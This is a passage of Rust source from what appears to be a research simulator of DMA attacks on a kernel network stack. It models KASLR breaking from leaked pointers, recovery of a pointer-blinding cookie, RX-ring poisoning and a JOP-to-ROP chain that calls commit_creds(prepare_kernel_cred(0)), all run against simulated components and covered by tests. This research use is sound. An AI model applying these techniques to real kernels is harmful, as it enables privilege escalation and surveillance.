    /// Number of PFNs whose repeat fraction exceeds `threshold`.
    pub fn pfns_above(&self, threshold: f64) -> usize {
        self.freq
            .values()
            .filter(|c| (**c as f64 / self.boots as f64) > threshold)
            .count()
    }
}

/// Outcome of one RingFlood attempt.
#[derive(Clone, Debug)]
pub struct RingFloodReport {
    /// The attack outcome.
    pub outcome: AttackOutcome,
    /// PFN guessed from the survey.
    pub guessed_pfn: Pfn,
    /// Whether the guessed frame actually backed an RX buffer this boot.
    pub guess_was_resident: bool,
    /// How many skb frees were triggered before the verdict.
    pub triggers: usize,
    /// KASLR knowledge recovered during the attack.
    pub knowledge: AttackerKnowledge,
}

/// Runs the full RingFlood attack against a fresh boot with seed
/// `victim_seed`, using a guess from `survey`.
pub fn run(
    image: &KernelImage,
    driver: DriverConfig,
    window: WindowPath,
    victim_seed: u64,
    survey: &BootSurvey,
) -> Result<RingFloodReport> {
    let mut tb = boot(driver, window, victim_seed)?;
    tb.mem.install_text(&image.bytes);

    // --- Step 1: break KASLR from the readable control-block page. ---
    // Background kernel activity puts socket objects (each leaking both
    // &init_net and a heap pointer) on the kmalloc-512 page the driver's
    // command queue shares. The device re-scans between churn rounds.
    let knowledge = break_kaslr(&mut tb)?;
    if knowledge.text_base.is_none() || knowledge.page_offset_base.is_none() {
        return Ok(RingFloodReport {
            outcome: AttackOutcome::Blocked("KASLR break failed: required leaks not found"),
            guessed_pfn: Pfn(0),
            guess_was_resident: false,
            triggers: 0,
            knowledge,
        });
    }

    // --- Step 2: flood every RX buffer with the poison. ---
    let poison = PoisonedBuffer::build(image, &knowledge)?;
    let descs = tb.driver.rx_descriptors();
    for &(iova, _) in &descs {
        tb.nic.deposit(
            &mut tb.ctx,
            &mut tb.iommu,
            &mut tb.mem.phys,
            iova,
            POISON_OFFSET,
            &poison.bytes,
        )?;
    }

    // --- Step 3: guess the frame, derive the KVA, pull the trigger. ---
    let (guessed_pfn, _) = survey
        .most_common()
        .ok_or(DmaError::AttackFailed("empty survey"))?;
    let guess_was_resident = tb.driver.posted_slots().any(|s| {
        tb.mem
            .layout
            .kva_to_pfn(dma_core::Kva(s.mapping.kva.raw() + POISON_OFFSET as u64))
            .map(|p| p == guessed_pfn)
            .unwrap_or(false)
    });

    let cpu = MiniCpu::new(image, tb.mem.layout.text_base);
    let mut triggers = 0usize;
    // Trigger skb frees until one picks up a valid poisoned ubuf (or the
    // ring cycles once without a hit).
    for _ in 0..descs.len() {
        let head_off = tb
            .driver
            .rx_descriptors()
            .first()
            .map(|(iova, _)| (iova.raw() + POISON_OFFSET as u64) & PAGE_MASK)
            .ok_or(DmaError::RingEmpty)?;
        let poison_kva = knowledge.pfn_to_kva(guessed_pfn)?.raw() & !PAGE_MASK | head_off;
        let plan = PoisonPlan { poison_kva };
        let pkt = Packet::udp(66, 1, b"trigger".to_vec());
        let (skb, poisoned) = rx_with_window(&mut tb, window, &pkt, &plan)?;
        // The stack delivers locally and frees the skb.
        tb.stack
            .rx(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver, skb)?;
        triggers += 1;
        if !poisoned {
            continue;
        }
        if let Some(pending) = tb.stack.pending_callbacks.pop() {
            let outcome = crate::hijack::fire(&cpu, &mut tb.ctx, &tb.mem, pending, triggers);
            if outcome.succeeded() {
                return Ok(RingFloodReport {
                    outcome,
                    guessed_pfn,
                    guess_was_resident,
                    triggers,
                    knowledge,
                });
            }
        }
    }
    Ok(RingFloodReport {
        outcome: AttackOutcome::Blocked("no freed skb consumed a valid poisoned ubuf"),
        guessed_pfn,
        guess_was_resident,
        triggers,
        knowledge,
    })
}

/// Breaks KASLR by repeatedly scanning the driver's bidirectionally
/// mapped control-block page while benign socket churn populates the
/// surrounding kmalloc-512 slots (§2.4: "scanning leaked pages during
/// I/O").
pub fn break_kaslr(tb: &mut Testbed) -> Result<AttackerKnowledge> {
    let (_kva, ctrl_map) = tb.driver.ctrl_block.ok_or(DmaError::AttackFailed(
        "driver has no mapped control block to scan",
    ))?;
    let scan_base = dma_core::Iova(ctrl_map.iova.raw() & !PAGE_MASK);
    let mut knowledge = AttackerKnowledge::new();
    for round in 0..8u32 {
        // Socket churn: connections being opened (kernel side).
        for i in 0..7u32 {
            tb.stack
                .socket_for(&mut tb.ctx, &mut tb.mem, (round * 100 + i, 1, 6))?;
        }
        let leaks = tb.nic.scan_for_pointers(
            &mut tb.ctx,
            &mut tb.iommu,
            &tb.mem.phys,
            scan_base,
            dma_core::PAGE_SIZE,
        )?;
        knowledge.absorb(&leaks);
        if knowledge.text_base.is_some() && knowledge.page_offset_base.is_some() {
            break;
        }
    }
    Ok(knowledge)
}

/// Approximate per-boot RX memory footprint in bytes (drives the §5.3
/// success-probability discussion).
pub fn rx_footprint(driver: &DriverConfig) -> u64 {
    (driver.rx_ring_size * driver.rx_buf_size) as u64
}

/// Convenience: pages the RX ring spans.
pub fn rx_footprint_pages(driver: &DriverConfig) -> u64 {
    rx_footprint(driver) >> PAGE_SHIFT
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn survey_aggregation_math() {
        let survey = BootSurvey {
            boots: 10,
            freq: [(100u64, 10u32), (101, 6), (102, 5), (103, 1)]
                .into_iter()
                .collect(),
        };
        let (pfn, frac) = survey.most_common().unwrap();
        assert_eq!(pfn, Pfn(100));
        assert!((frac - 1.0).abs() < f64::EPSILON);
        assert_eq!(survey.pfns_above(0.5), 2, "strictly above one half");
        assert_eq!(survey.pfns_above(0.95), 1);
        assert_eq!(survey.pfns_above(0.0), 4);
    }

    #[test]
    fn most_common_breaks_ties_deterministically() {
        let survey = BootSurvey {
            boots: 4,
            freq: [(7u64, 2u32), (5, 2)].into_iter().collect(),
        };
        // Equal counts: the lower PFN wins (u64::MAX - pfn tiebreak).
        assert_eq!(survey.most_common().unwrap().0, Pfn(5));
    }

    #[test]
    fn footprint_math_matches_configs() {
        let k50 = kernel50_driver();
        assert_eq!(rx_footprint(&k50), 64 * 2048);
        assert_eq!(rx_footprint_pages(&k50), 32);
        let k415 = kernel415_driver();
        assert_eq!(rx_footprint(&k415), 64 * 65536);
        assert_eq!(rx_footprint_pages(&k415), 1024);
        assert!(
            rx_footprint(&k415) > 30 * rx_footprint(&k50),
            "the §5.3 footprint gap"
        );
    }

    #[test]
    fn window_selection_shapes_the_boot() {
        // Path (i) boots a build-then-unmap driver; the others boot the
        // correct ordering.
        let a = boot(kernel50_driver(), WindowPath::UnmapAfterBuild, 1).unwrap();
        assert_eq!(
            a.driver.cfg.unmap_order,
            sim_net::driver::UnmapOrder::BuildThenUnmap
        );
        let b = boot(kernel50_driver(), WindowPath::DeferredIotlb, 1).unwrap();
        assert_eq!(
            b.driver.cfg.unmap_order,
            sim_net::driver::UnmapOrder::UnmapThenBuild
        );
        assert_eq!(b.iommu.config.mode, sim_iommu::InvalidationMode::Deferred);
        let c = boot(kernel50_driver(), WindowPath::NeighborIova, 1).unwrap();
        assert_eq!(c.iommu.config.mode, sim_iommu::InvalidationMode::Strict);
    }
}
