//! KASLR subversion from leaked pointers (§2.4).
//!
//! KASLR randomizes three bases, each with coarse alignment, so one
//! leaked pointer per region recovers everything:
//!
//! - **text base**: 2 MiB aligned. A leaked `&init_net` (present in
//!   every socket object) has KASLR-invariant low 21 bits; subtracting
//!   the build-constant image offset gives the base.
//! - **page_offset_base / vmemmap_base**: 1 GiB aligned; with < 1 GiB of
//!   physical memory (or entropy windows aligned likewise), rounding any
//!   leaked direct-map / `struct page` pointer down to 1 GiB reveals
//!   the base.

use crate::image::INIT_NET_OFFSET;
use devsim::LeakedPointer;
use dma_core::layout::{VmRegion, SECTION_ALIGN, STRUCT_PAGE_SIZE, TEXT_ALIGN};
use dma_core::{DmaError, Kva, Pfn, Result};

/// What the attacker has derandomized so far. Starts empty; filled by
/// [`AttackerKnowledge::absorb`].
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct AttackerKnowledge {
    /// Recovered kernel text base.
    pub text_base: Option<Kva>,
    /// Recovered direct-map base.
    pub page_offset_base: Option<Kva>,
    /// Recovered vmemmap base.
    pub vmemmap_base: Option<Kva>,
}

impl AttackerKnowledge {
    /// Creates empty knowledge.
    pub fn new() -> Self {
        Self::default()
    }

    /// `true` once all three bases are known.
    pub fn complete(&self) -> bool {
        self.text_base.is_some() && self.page_offset_base.is_some() && self.vmemmap_base.is_some()
    }

    /// Digests a batch of leaked pointers.
    ///
    /// Text identification uses the §2.4 heuristic: a text-range value
    /// whose low 21 bits equal `init_net`'s known low bits is taken to
    /// be `&init_net` ("we can identify init_net with a high
    /// probability"). Direct-map and vmemmap values are rounded down to
    /// their 1 GiB sections.
    pub fn absorb(&mut self, leaks: &[LeakedPointer]) {
        for l in leaks {
            match l.region {
                VmRegion::KernelText
                    if l.value & (TEXT_ALIGN - 1) == INIT_NET_OFFSET & (TEXT_ALIGN - 1) =>
                {
                    let base = l.value - INIT_NET_OFFSET;
                    if base.is_multiple_of(TEXT_ALIGN) {
                        self.text_base = Some(Kva(base));
                    }
                }
                VmRegion::DirectMap => {
                    self.page_offset_base = Some(Kva(l.value & !(SECTION_ALIGN - 1)));
                }
                VmRegion::Vmemmap => {
                    self.vmemmap_base = Some(Kva(l.value & !(SECTION_ALIGN - 1)));
                }
                _ => {}
            }
        }
    }

    /// Attacker-side `page_to_pfn`: turns a leaked `struct page` pointer
    /// into a frame number.
    pub fn page_to_pfn(&self, page: u64) -> Result<Pfn> {
        let base = self
            .vmemmap_base
            .ok_or(DmaError::MissingAttribute("vmemmap_base"))?;
        let off = page
            .checked_sub(base.raw())
            .ok_or(DmaError::AttackFailed("struct page below vmemmap base"))?;
        Ok(Pfn(off / STRUCT_PAGE_SIZE))
    }

    /// Attacker-side `pfn → KVA`.
    pub fn pfn_to_kva(&self, pfn: Pfn) -> Result<Kva> {
        let base = self
            .page_offset_base
            .ok_or(DmaError::MissingAttribute("page_offset_base"))?;
        Ok(Kva(base.raw() + pfn.base().raw()))
    }

    /// Attacker-side `struct page` + offset → KVA (the Figure 8 step 3
    /// translation).
    pub fn page_ptr_to_kva(&self, page: u64, offset: u32) -> Result<Kva> {
        Ok(Kva(
            self.pfn_to_kva(self.page_to_pfn(page)?)?.raw() + offset as u64
        ))
    }

    /// Run-time address of an image symbol offset.
    pub fn rebase(&self, image_offset: u64) -> Result<Kva> {
        let base = self
            .text_base
            .ok_or(DmaError::MissingAttribute("text_base"))?;
        Ok(Kva(base.raw() + image_offset))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dma_core::{DetRng, Iova, KernelLayout};

    fn leak(value: u64) -> LeakedPointer {
        LeakedPointer {
            iova: Iova(0),
            value,
            region: VmRegion::classify(value).unwrap(),
        }
    }

    #[test]
    fn init_net_leak_recovers_text_base() {
        for seed in 0..32 {
            let mut rng = DetRng::new(seed);
            let layout = KernelLayout::randomize(&mut rng, 256 << 20);
            let mut k = AttackerKnowledge::new();
            k.absorb(&[leak(layout.text_base.raw() + INIT_NET_OFFSET)]);
            assert_eq!(k.text_base, Some(layout.text_base), "seed {seed}");
        }
    }

    #[test]
    fn decoy_text_pointers_are_ignored() {
        let mut rng = DetRng::new(4);
        let layout = KernelLayout::randomize(&mut rng, 256 << 20);
        let mut k = AttackerKnowledge::new();
        // A leaked function pointer whose low bits don't match init_net.
        k.absorb(&[leak(layout.text_base.raw() + 0x1234)]);
        assert_eq!(k.text_base, None);
    }

    #[test]
    fn direct_map_and_vmemmap_leaks_recover_bases() {
        for seed in 0..32 {
            let mut rng = DetRng::new(seed);
            let layout = KernelLayout::randomize(&mut rng, 256 << 20);
            let mut k = AttackerKnowledge::new();
            // A slab freelist pointer (direct map) and a struct page
            // pointer (vmemmap), at arbitrary offsets.
            k.absorb(&[
                leak(layout.page_offset_base.raw() + 0x03c1_e928),
                leak(layout.vmemmap_base.raw() + 0x9_e400),
            ]);
            assert_eq!(
                k.page_offset_base,
                Some(layout.page_offset_base),
                "seed {seed}"
            );
            assert_eq!(k.vmemmap_base, Some(layout.vmemmap_base), "seed {seed}");
        }
    }

    #[test]
    fn translations_match_kernel_layout() {
        let mut rng = DetRng::new(19);
        let layout = KernelLayout::randomize(&mut rng, 256 << 20);
        let mut k = AttackerKnowledge::new();
        k.absorb(&[
            leak(layout.page_offset_base.raw() + 0x100),
            leak(layout.vmemmap_base.raw() + 0x40),
            leak(layout.text_base.raw() + INIT_NET_OFFSET),
        ]);
        assert!(k.complete());
        let pfn = Pfn(0x2345);
        let page = layout.pfn_to_page(pfn).unwrap();
        assert_eq!(k.page_to_pfn(page.raw()).unwrap(), pfn);
        assert_eq!(k.pfn_to_kva(pfn).unwrap(), layout.pfn_to_kva(pfn).unwrap());
        assert_eq!(
            k.page_ptr_to_kva(page.raw(), 0x123).unwrap().raw(),
            layout.pfn_to_kva(pfn).unwrap().raw() + 0x123
        );
    }

    #[test]
    fn missing_knowledge_is_an_error_not_a_guess() {
        let k = AttackerKnowledge::new();
        assert!(k.page_to_pfn(0xffff_ea00_0000_0040).is_err());
        assert!(k.pfn_to_kva(Pfn(1)).is_err());
        assert!(k.rebase(0x1000).is_err());
    }
}
