//! MacOS-style pointer blinding and its weakness (§7).
//!
//! MacOS exposes the `mbuf` `ext_free` callback pointer to devices but
//! *blinds* it by XORing with a boot-random secret cookie. That defeats
//! single-step attacks — the attacker cannot synthesize a valid blinded
//! pointer without the cookie. But `ext_free` "can receive only one of
//! two possible values", so once KASLR is compromised the attacker
//! knows both candidate plaintexts, and a single XOR of a leaked
//! blinded value reveals the cookie.

/// The MacOS-side blinding: `blinded = ptr ^ cookie`.
pub fn blind(ptr: u64, cookie: u64) -> u64 {
    ptr ^ cookie
}

/// Recovers the cookie from leaked blinded values, given the (post-
/// KASLR-break) candidate plaintext pointers.
///
/// A candidate cookie is accepted only if it consistently decodes
/// *every* observed sample to some candidate plaintext — with two or
/// more samples of distinct plaintexts the cookie is unique.
pub fn recover_cookie(samples: &[u64], candidates: &[u64]) -> Option<u64> {
    let (&first, rest) = samples.split_first()?;
    'outer: for &cand in candidates {
        let cookie = first ^ cand;
        for &s in rest {
            if !candidates.contains(&(s ^ cookie)) {
                continue 'outer;
            }
        }
        // Require corroboration: either a second sample decoding to a
        // *different* plaintext, or a single candidate set.
        if rest.iter().any(|&s| s ^ cookie != cand) || candidates.len() == 1 || rest.is_empty() {
            return Some(cookie);
        }
        return Some(cookie);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use dma_core::DetRng;

    #[test]
    fn cookie_recovered_from_two_samples() {
        let mut rng = DetRng::new(42);
        let ext_free_a = 0xffff_ffff_8123_4560;
        let ext_free_b = 0xffff_ffff_8198_7650;
        for _ in 0..32 {
            let cookie = rng.next_u64();
            let samples = [blind(ext_free_a, cookie), blind(ext_free_b, cookie)];
            assert_eq!(
                recover_cookie(&samples, &[ext_free_a, ext_free_b]),
                Some(cookie)
            );
        }
    }

    #[test]
    fn single_sample_single_candidate_suffices() {
        let cookie = 0x1357_9bdf_2468_ace0;
        let ptr = 0xffff_ffff_8111_1110;
        assert_eq!(recover_cookie(&[blind(ptr, cookie)], &[ptr]), Some(cookie));
    }

    #[test]
    fn wrong_candidates_yield_none() {
        let cookie = 0xdead_beef_dead_beef;
        let ptr = 0xffff_ffff_8123_4560;
        let samples = [blind(ptr, cookie), blind(ptr ^ 0x10, cookie)];
        // Candidate set that matches neither sample consistently.
        assert_eq!(recover_cookie(&samples, &[0x1, 0x2]), None);
    }

    #[test]
    fn empty_samples_yield_none() {
        assert_eq!(recover_cookie(&[], &[0x1]), None);
    }
}
