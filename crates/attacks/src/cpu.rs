//! A mini CPU model for callback invocation and ROP execution.
//!
//! It enforces the two OS defenses of §2.4 and gives their subversion
//! observable semantics:
//!
//! - **NX / W^X**: control may only transfer to addresses inside the
//!   kernel text mapping. Jumping to a data page (e.g. straight into the
//!   attacker's buffer) faults — this is why the attack needs ROP/JOP.
//! - **Privilege escalation**: `prepare_kernel_cred(0)` /
//!   `commit_creds` have credential semantics, so a successful chain is
//!   detected by outcome, not by assertion fiat.

use crate::gadget::{scan_gadgets, GadgetKind};
use crate::image::KernelImage;
use dma_core::{DmaError, Kva, Result, SimCtx};
use sim_mem::MemorySystem;

/// Opaque token modelling the root credential produced by
/// `prepare_kernel_cred(NULL)`.
const ROOT_CRED: u64 = 0xc12d_0000_0000_0001;

/// Result of invoking a callback.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct CpuOutcome {
    /// `true` if the invocation ended with kernel credentials replaced by
    /// root credentials — i.e. a successful privilege escalation.
    pub escalated: bool,
    /// Number of ROP/JOP steps executed.
    pub steps: usize,
    /// Name of the first symbol control transferred to, for reporting.
    pub entry_symbol: Option<&'static str>,
}

/// The CPU model, bound to a kernel image and its load base.
pub struct MiniCpu<'a> {
    image: &'a KernelImage,
    text_base: Kva,
    step_limit: usize,
}

impl<'a> MiniCpu<'a> {
    /// Creates a CPU for a kernel loaded at `text_base`.
    pub fn new(image: &'a KernelImage, text_base: Kva) -> Self {
        MiniCpu {
            image,
            text_base,
            step_limit: 128,
        }
    }

    fn sym_of(&self, addr: Kva) -> Option<&'static str> {
        addr.raw()
            .checked_sub(self.text_base.raw())
            .and_then(|off| self.image.symbol_at(off))
    }

    fn in_text(&self, addr: Kva) -> bool {
        let off = addr.raw().wrapping_sub(self.text_base.raw());
        (off as usize) < self.image.bytes.len()
    }

    /// Invokes `callback(arg)` the way `kfree_skb` → `uarg->callback()`
    /// does: `%rdi = arg`, jump to `callback`.
    ///
    /// NX: a callback outside kernel text faults immediately.
    pub fn invoke_callback(
        &self,
        ctx: &mut SimCtx,
        mem: &MemorySystem,
        callback: Kva,
        arg: Kva,
    ) -> Result<CpuOutcome> {
        if !self.in_text(callback) {
            return Err(DmaError::CpuFault("NX: callback target is not executable"));
        }
        let entry_symbol = self.sym_of(callback);
        match entry_symbol {
            Some("sock_zerocopy_callback") | Some("nvme_fc_fcpio_done") => {
                // The benign destructor: accounting only.
                Ok(CpuOutcome {
                    escalated: false,
                    steps: 1,
                    entry_symbol,
                })
            }
            Some("jop_rsp_rdi") => {
                // Stack pivot: %rsp = %rdi + disp, then ret starts the
                // ROP chain. Re-derive disp from the actual bytes, as the
                // hardware would.
                let off = (callback.raw() - self.text_base.raw()) as usize;
                let window = &self.image.bytes[off..(off + 5).min(self.image.bytes.len())];
                let g = scan_gadgets(window)
                    .into_iter()
                    .next()
                    .ok_or(DmaError::CpuFault("decode failure at pivot"))?;
                let GadgetKind::JopRspRdi { disp } = g.kind else {
                    return Err(DmaError::CpuFault("pivot gadget mismatch"));
                };
                let rsp = Kva(arg.raw() + disp as u64);
                self.run_rop(ctx, mem, rsp, arg, entry_symbol)
            }
            Some(_) | None => {
                // Mid-function or unknown text address: crash, not pwn.
                Err(DmaError::CpuFault(
                    "callback landed at a non-function text address",
                ))
            }
        }
    }

    /// Executes a ROP chain starting at `rsp`.
    fn run_rop(
        &self,
        ctx: &mut SimCtx,
        mem: &MemorySystem,
        mut rsp: Kva,
        rdi_init: Kva,
        entry_symbol: Option<&'static str>,
    ) -> Result<CpuOutcome> {
        let mut rdi = rdi_init.raw();
        let mut rax = 0u64;
        let mut escalated = false;
        let mut steps = 1usize;
        loop {
            if steps >= self.step_limit {
                return Err(DmaError::CpuFault("ROP step limit exceeded"));
            }
            let ret = Kva(mem.cpu_read_u64(ctx, rsp, "cpu_ret")?);
            rsp += 8;
            steps += 1;
            if !self.in_text(ret) {
                return Err(DmaError::CpuFault("NX: return target is not executable"));
            }
            match self.sym_of(ret) {
                Some("pop_rdi_ret") => {
                    rdi = mem.cpu_read_u64(ctx, rsp, "cpu_pop")?;
                    rsp += 8;
                }
                Some("mov_rdi_rax_ret") => rdi = rax,
                Some("prepare_kernel_cred") => {
                    // prepare_kernel_cred(NULL) yields the root cred.
                    rax = if rdi == 0 { ROOT_CRED } else { rdi ^ 0x5a5a };
                }
                Some("commit_creds") => {
                    if rdi == ROOT_CRED {
                        escalated = true;
                    }
                }
                Some("rop_exit") => {
                    return Ok(CpuOutcome {
                        escalated,
                        steps,
                        entry_symbol,
                    });
                }
                _ => return Err(DmaError::CpuFault("return landed at a non-gadget address")),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::image::JOP_PIVOT_DISP;
    use sim_mem::MemConfig;

    fn setup() -> (SimCtx, MemorySystem, KernelImage) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig {
            kaslr_seed: Some(9),
            ..Default::default()
        });
        let img = KernelImage::build(1, 16 << 20);
        mem.install_text(&img.bytes);
        let _ = &mut ctx;
        (ctx, mem, img)
    }

    fn write_chain(ctx: &mut SimCtx, mem: &mut MemorySystem, at: Kva, words: &[u64]) {
        for (i, w) in words.iter().enumerate() {
            mem.cpu_write_u64(ctx, Kva(at.raw() + 8 * i as u64), *w, "t")
                .unwrap();
        }
    }

    #[test]
    fn nx_blocks_direct_code_injection() {
        let (mut ctx, mut mem, img) = setup();
        let cpu = MiniCpu::new(&img, mem.layout.text_base);
        let buf = mem.kmalloc(&mut ctx, 256, "evil").unwrap();
        // Callback pointing straight into the data buffer: NX fault.
        let err = cpu.invoke_callback(&mut ctx, &mem, buf, buf).unwrap_err();
        assert_eq!(
            err,
            DmaError::CpuFault("NX: callback target is not executable")
        );
    }

    #[test]
    fn benign_destructor_does_not_escalate() {
        let (mut ctx, mem, img) = setup();
        let cpu = MiniCpu::new(&img, mem.layout.text_base);
        let cb = img
            .symbol_addr("sock_zerocopy_callback", mem.layout.text_base)
            .unwrap();
        let out = cpu
            .invoke_callback(&mut ctx, &mem, cb, Kva(0x1234))
            .unwrap();
        assert!(!out.escalated);
        assert_eq!(out.entry_symbol, Some("sock_zerocopy_callback"));
    }

    #[test]
    fn full_jop_rop_chain_escalates() {
        // The §6 exploit shape: callback → JOP pivot → ROP chain →
        // commit_creds(prepare_kernel_cred(0)).
        let (mut ctx, mut mem, img) = setup();
        let base = mem.layout.text_base;
        let cpu = MiniCpu::new(&img, base);
        let buf = mem.kmalloc(&mut ctx, 512, "evil").unwrap();
        let sym = |n: &str| img.symbol_addr(n, base).unwrap().raw();
        // The poisoned buffer: ubuf_info at +0 (callback filled below),
        // ROP stack at +JOP_PIVOT_DISP.
        let chain = [
            sym("pop_rdi_ret"),
            0, // NULL
            sym("prepare_kernel_cred"),
            sym("mov_rdi_rax_ret"),
            sym("commit_creds"),
            sym("rop_exit"),
        ];
        write_chain(
            &mut ctx,
            &mut mem,
            Kva(buf.raw() + JOP_PIVOT_DISP as u64),
            &chain,
        );
        let out = cpu
            .invoke_callback(&mut ctx, &mem, Kva(sym("jop_rsp_rdi")), buf)
            .unwrap();
        assert!(out.escalated, "chain must commit root creds");
        assert_eq!(out.entry_symbol, Some("jop_rsp_rdi"));
    }

    #[test]
    fn chain_without_null_cred_does_not_escalate() {
        let (mut ctx, mut mem, img) = setup();
        let base = mem.layout.text_base;
        let cpu = MiniCpu::new(&img, base);
        let buf = mem.kmalloc(&mut ctx, 512, "evil").unwrap();
        let sym = |n: &str| img.symbol_addr(n, base).unwrap().raw();
        let chain = [
            sym("pop_rdi_ret"),
            42, // not NULL → not the root cred
            sym("prepare_kernel_cred"),
            sym("mov_rdi_rax_ret"),
            sym("commit_creds"),
            sym("rop_exit"),
        ];
        write_chain(
            &mut ctx,
            &mut mem,
            Kva(buf.raw() + JOP_PIVOT_DISP as u64),
            &chain,
        );
        let out = cpu
            .invoke_callback(&mut ctx, &mem, Kva(sym("jop_rsp_rdi")), buf)
            .unwrap();
        assert!(!out.escalated);
    }

    #[test]
    fn garbage_chain_faults() {
        let (mut ctx, mut mem, img) = setup();
        let base = mem.layout.text_base;
        let cpu = MiniCpu::new(&img, base);
        let buf = mem.kzalloc(&mut ctx, 512, "evil").unwrap();
        // Zeroed chain: first "return address" is 0 → NX fault.
        let sym = |n: &str| img.symbol_addr(n, base).unwrap();
        let err = cpu
            .invoke_callback(&mut ctx, &mem, sym("jop_rsp_rdi"), buf)
            .unwrap_err();
        assert!(matches!(err, DmaError::CpuFault(_)));
    }

    #[test]
    fn wrong_kaslr_base_faults_not_escalates() {
        // An attacker with a wrong slide points at a non-function text
        // address: kernel oops, not escalation (the cost of guessing).
        let (mut ctx, mem, img) = setup();
        let cpu = MiniCpu::new(&img, mem.layout.text_base);
        let off_by = 0x200000u64; // one KASLR slot off
        let wrong = Kva(img
            .symbol_addr("jop_rsp_rdi", mem.layout.text_base)
            .unwrap()
            .raw()
            + off_by);
        if cpu.in_text(wrong) {
            let err = cpu
                .invoke_callback(&mut ctx, &mem, wrong, Kva(0))
                .unwrap_err();
            assert!(matches!(err, DmaError::CpuFault(_)));
        }
    }
}
