//! The Forward Thinking compound attack (§5.5, Figure 9) and its
//! surveillance variant.
//!
//! On a forwarding box there is no cooperating echo service — but there
//! is GRO. The device sends a TCP stream (to a non-local destination)
//! whose segment payloads carry the poison. GRO merges the linear
//! segments into one sk_buff, *filling `frags[]` with the `struct page`
//! pointers of the attacker's own payload pages*, and the forwarded
//! packet goes out TX with those pointers device-readable. From there
//! the finish is identical to Poisoned TX.
//!
//! The surveillance variant aims at persistent spying instead of
//! takeover: the device forges `frags[]` itself (a small UDP packet,
//! `nr_frags = 1`, an arbitrary `struct page` address) during the RX
//! window; the forwarding TX path then dutifully DMA-maps the named
//! page for device READ — any page in the system, on demand.

use crate::cpu::MiniCpu;
use crate::hijack;
use crate::image::KernelImage;
use crate::kaslr::AttackerKnowledge;
use crate::ringflood::break_kaslr;
use crate::rop::PoisonedBuffer;
use crate::window::{rx_with_window, PoisonPlan};
use devsim::testbed::{MemConfigLite, TestbedConfig};
use devsim::Testbed;
use dma_core::vuln::{AttackOutcome, WindowPath};
use dma_core::{DmaError, Iova, Kva, Pfn, Result};
use sim_iommu::{InvalidationMode, IommuConfig};
use sim_net::driver::{DriverConfig, UnmapOrder};
use sim_net::packet::{Packet, HEADER_SIZE};
use sim_net::shinfo::{SHINFO_FRAGS, SHINFO_NR_FRAGS};
use sim_net::skb::NET_SKB_PAD;
use sim_net::stack::StackConfig;

/// Where the poison sits inside the second TCP segment's payload.
const POISON_IN_SEGMENT: usize = 16;

/// Report of a Forward Thinking run.
#[derive(Clone, Debug)]
pub struct ForwardThinkingReport {
    /// Outcome.
    pub outcome: AttackOutcome,
    /// Recovered KASLR knowledge.
    pub knowledge: AttackerKnowledge,
    /// The poison KVA recovered from the forwarded packet's frags.
    pub poison_kva: Option<Kva>,
}

/// Boots the forwarding victim.
pub fn boot(window: WindowPath, seed: u64) -> Result<Testbed> {
    Testbed::new(TestbedConfig {
        device: Default::default(),
        mem: MemConfigLite {
            kaslr_seed: Some(seed),
            ..Default::default()
        },
        iommu: IommuConfig {
            mode: match window {
                WindowPath::DeferredIotlb => InvalidationMode::Deferred,
                _ => InvalidationMode::Strict,
            },
            ..Default::default()
        },
        driver: DriverConfig {
            unmap_order: match window {
                WindowPath::UnmapAfterBuild => UnmapOrder::BuildThenUnmap,
                _ => UnmapOrder::UnmapThenBuild,
            },
            map_ctrl_block: true,
            ..Default::default()
        },
        stack: StackConfig {
            forwarding: true,
            ..Default::default()
        },
        boot_noise_seed: Some(seed),
    })
}

/// Delivers one packet from the device and processes it (no GRO flush).
fn rx_one(tb: &mut Testbed, p: &Packet) -> Result<()> {
    let descs = tb.driver.rx_descriptors();
    let (iova, _) = *descs.first().ok_or(DmaError::RingEmpty)?;
    let n = tb
        .nic
        .inject_rx(&mut tb.ctx, &mut tb.iommu, &mut tb.mem.phys, iova, p)?;
    tb.driver.device_rx_complete(n)?;
    while let Some(skb) = tb
        .driver
        .rx_poll_quiet(&mut tb.ctx, &mut tb.mem, &mut tb.iommu)?
    {
        tb.stack
            .rx(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver, skb)?;
    }
    Ok(())
}

/// Runs the Figure 9 code-injection attack end to end.
pub fn run(image: &KernelImage, window: WindowPath, seed: u64) -> Result<ForwardThinkingReport> {
    let mut tb = boot(window, seed)?;
    tb.mem.install_text(&image.bytes);

    // --- KASLR break: scan the driver's mapped command queue page. ---
    let knowledge = break_kaslr(&mut tb)?;
    if knowledge.text_base.is_none() || knowledge.page_offset_base.is_none() {
        return Ok(ForwardThinkingReport {
            outcome: AttackOutcome::Blocked("KASLR break failed"),
            knowledge,
            poison_kva: None,
        });
    }

    // --- Send the TCP stream; segment 2 carries the poison. ---
    let poison = PoisonedBuffer::build(image, &knowledge)?;
    let seg1 = Packet::tcp(0x66, 0xbeef, 0, vec![0x11; 64]);
    let mut seg2_payload = vec![0u8; POISON_IN_SEGMENT];
    seg2_payload.extend_from_slice(&poison.bytes);
    let seg2 = Packet::tcp(0x66, 0xbeef, 64, seg2_payload.clone());
    rx_one(&mut tb, &seg1)?;
    rx_one(&mut tb, &seg2)?;
    // End of the NAPI cycle: GRO flushes, the merged skb is forwarded.
    tb.stack
        .flush(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver)?;

    // --- Read the forwarded packet's frags (device side). ---
    // The head is a netdev_alloc_skb buffer; shared info at the
    // device-known geometry offset.
    let tx = tb
        .driver
        .tx_descriptors()
        .into_iter()
        .next_back()
        .ok_or(DmaError::AttackFailed("nothing was forwarded"))?;
    let head_buf_size = tb.driver.rx_payload_capacity();
    let shinfo_iova = Iova(tx.iova.raw() - NET_SKB_PAD as u64 + head_buf_size as u64);
    let mut knowledge = knowledge;
    // frags[] entries are vmemmap pointers: absorb them to learn
    // vmemmap_base if the ctrl-page scan did not provide it.
    let frag0 = Iova(shinfo_iova.raw() + SHINFO_FRAGS as u64);
    let page = tb
        .nic
